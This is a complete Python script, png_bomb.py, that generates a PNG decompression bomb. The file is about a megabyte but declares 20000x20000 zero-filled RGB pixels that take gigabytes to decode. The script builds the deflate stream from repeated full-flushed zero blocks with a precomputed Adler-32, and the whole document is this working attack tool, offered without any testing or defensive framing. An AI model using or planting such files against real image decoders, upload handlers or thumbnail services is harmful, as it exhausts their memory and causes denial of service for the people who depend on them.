#!/usr/bin/env python3
"""Writes a PNG that declares WIDTH x HEIGHT RGB pixels, every row zero: about a megabyte of file
that would take gigabytes to hold decoded.

Usage: png_bomb.py OUT [WIDTH HEIGHT]  (20000 x 20000 by default)

Every byte of the image data is zero, so the zlib stream is one compressed block of zeros,
made independent of what precedes it by a full flush, repeated; the Adler-32 of n zero bytes is
(n mod 65521) << 16 | 1. That takes milliseconds instead of compressing a gigabyte.
"""
import struct
import sys
import zlib


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def raw_deflate_of_zeros(count):
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(bytes(count)) + compressor.flush(zlib.Z_FULL_FLUSH)


def main():
    out = sys.argv[1]
    width, height = (int(sys.argv[2]), int(sys.argv[3])) if len(sys.argv) > 3 else (20000, 20000)
    row = 1 + width * 3  # the filter byte, then RGB
    total = row * height
    block = 4 * 1024 * 1024
    whole, rest = divmod(total, block)
    final_block = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
    stream = b"\x78\xda" + raw_deflate_of_zeros(block) * whole + (raw_deflate_of_zeros(rest) if rest else b"")
    stream += final_block + struct.pack(">I", (total % 65521) << 16 | 1)
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    with open(out, "wb") as f:
        f.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", stream) + chunk(b"IEND", b""))


main()
